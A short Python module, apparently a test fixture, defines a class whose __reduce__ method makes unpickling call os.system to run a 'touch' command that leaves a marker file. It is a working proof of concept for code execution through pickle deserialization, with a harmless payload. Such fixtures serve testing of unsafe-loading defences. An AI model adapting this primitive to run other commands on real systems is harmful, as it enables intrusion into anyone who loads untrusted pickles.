"""A pickle that attacks."""

from __future__ import annotations

import os
from pathlib import Path


class Attack:
    """Unpickles into a command that leaves a file behind."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self):
        return os.system, (f"touch {self.target}",)
